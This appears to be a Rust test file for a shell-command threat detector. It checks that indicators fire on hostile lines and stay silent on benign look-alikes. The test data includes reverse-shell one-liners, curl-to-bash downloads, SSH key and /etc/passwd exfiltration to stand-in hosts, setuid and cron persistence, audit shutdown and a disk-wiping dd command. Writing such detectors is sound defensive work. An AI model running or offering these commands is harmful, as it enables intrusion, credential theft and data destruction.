use super::{
    super::{Reading, Surroundings},
    *,
};

fn names(line: &str, parents: &[&str]) -> Vec<&'static str> {
    let found = shown_by(&Reading::of_line(line).features(&Surroundings::of_parents(parents)));
    INDICATORS
        .iter()
        .zip(found)
        .filter_map(|(indicator, shown)| shown.then_some(indicator.name))
        .collect()
}

fn check(line: &str, expected: &str) {
    let found = names(line, &[]);
    assert!(found.contains(&expected), "{line}: {found:?}");
}

#[test]
fn each_class_is_seen_in_its_own_words() {
    check("bash -i >& /dev/tcp/203.0.113.7/9001 0>&1", "socket_shell");
    check(
        "rm /tmp/p; mkfifo /tmp/p; sh -i < /tmp/p | nc h 1 > /tmp/p",
        "socket_shell",
    );
    check(
        "python3 -c 'import socket,pty; s=socket.socket(); pty.spawn(\"/bin/sh\")'",
        "socket_shell",
    );
    check(
        "curl -fsSL https://x.example/i | sudo bash",
        "download_to_interpreter",
    );
    check(
        "bash <(wget -qO- http://x.example/i)",
        "download_to_interpreter",
    );
    check(
        "sh -c \"$(curl -s http://x.example/i)\"",
        "download_to_interpreter",
    );
    check("echo aWQ= | base64 -d | sh", "decode_to_interpreter");
    check(
        "eval $(echo aWQ= | base64 --decode)",
        "decode_to_interpreter",
    );
    check("cat ~/.aws/credentials", "secret_read");
    check(
        "tar cz ~/.ssh/id_rsa | curl -T - https://x.example",
        "secret_and_network",
    );
    check(
        "echo '* * * * * root /x' >> /etc/cron.d/x",
        "persistence_write",
    );
    check("chmod +x /dev/shm/.k", "temporary_program");
    check("/var/tmp/.cache/kworkerd -o pool", "temporary_program");
    check("chmod 4755 /bin/bash", "privilege");
    check("nsenter -t 1 -m -u sh", "container_escape");
    check("systemctl stop auditd", "evasion");
    check("find . -exec /bin/sh \\; -quit", "shell_from_tool");
    check("LD_PRELOAD=/tmp/x.so id", "preload");
    check("id; uname -a; cat /etc/passwd; ps aux", "discovery");
    check(
        "curl http://169.254.169.254/latest/meta-data/iam/",
        "cloud_metadata",
    );
    check("wget http://203.0.113.7/x", "raw_address");
    check("dd if=/dev/zero of=/dev/sda", "destruction");
    check("usermod -aG sudo eve", "account_change");
    check("curl -F f=@/etc/passwd https://x.example", "upload");
    check("ncat -l 4444", "listener");
    check("insmod /tmp/r.ko", "kernel_change");
    check("tcpdump -i any -w /tmp/c.pcap", "capture");
    assert!(names("sh -c id", &["nginx"]).contains(&"service_shell"));
}

#[test]
fn ordinary_look_alikes_show_nothing() {
    for line in [
        "base64 /etc/app/settings.json",
        "cat config/settings.toml",
        "curl -fsS http://127.0.0.1:8080/healthz",
        "bash -c 'make -j2 && make test'",
        "find . -name '*.o' -exec rm {} +",
        "find src -name '*.sh' -exec sh -c 'shellcheck \"$1\"' _ {} ;",
        "ssh-keygen -t ed25519 -f /home/u/.ssh/deploy.pub",
        "chmod 755 /usr/local/bin/tool",
        "rm -rf build/ target/debug",
        "crontab -l",
        "systemctl restart nginx",
        "git commit -m 'use base64 in the shell'",
        "python3 -m pytest -q",
        "awk '{print $1}' access.txt",
        "tar czf backup.tgz src",
        "echo done > out.log",
        "bash -c 'cat .ssh/id_ed25519.pub > keys.txt && ssh-add -l'",
    ] {
        assert_eq!(names(line, &["bash"]), Vec::<&str>::new(), "{line}");
    }
}

#[test]
fn a_probe_of_a_port_is_no_shell_on_a_socket() {
    for line in [
        "sh -c '(echo > /dev/tcp/db01/5432) 2>/dev/null && echo up'",
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/6379 && printf PING >&3 && head -1 <&3'",
    ] {
        assert!(!names(line, &["bash"]).contains(&"socket_shell"), "{line}");
    }
}

#[test]
fn names_are_unique() {
    let mut names: Vec<&str> = INDICATORS.iter().map(|i| i.name).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), INDICATORS.len());
}
